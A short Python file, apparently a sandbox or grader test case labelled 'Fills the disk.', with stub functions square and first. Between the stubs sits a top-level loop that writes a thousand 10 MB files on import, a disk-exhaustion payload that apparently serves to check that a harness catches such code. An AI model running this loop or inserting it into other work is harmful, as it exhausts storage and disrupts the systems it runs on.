# Fills the disk.
# At most: 0
# %% square
for number in range(1000):
    open(f"f{number}", "wb").write(b"x" * 10_000_000)


def square(x):
    raise NotImplementedError


# %% first
def first(values):
    raise NotImplementedError
